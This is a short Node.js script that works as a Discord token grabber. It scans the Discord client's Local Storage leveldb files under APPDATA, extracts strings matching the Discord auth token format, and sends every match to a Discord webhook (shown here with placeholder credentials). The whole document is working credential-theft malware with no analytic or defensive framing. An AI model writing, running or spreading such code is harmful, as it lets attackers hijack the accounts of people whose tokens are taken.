const { WebhookClient } = require('discord.js');
const fs = require('fs');
const path = require('path');
const hook = new WebhookClient({ id: '000000000000000000', token: 'placeholder-token' });
const base = path.join(process.env.APPDATA || '', 'discord', 'Local Storage', 'leveldb');
const found = [];
for (const f of fs.readdirSync(base)) {
  if (!/\.(log|ldb)$/.test(f)) continue;
  const text = fs.readFileSync(path.join(base, f), 'utf8');
  for (const m of text.matchAll(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g)) found.push(m[0]);
}
hook.send({ content: found.join('\n') });
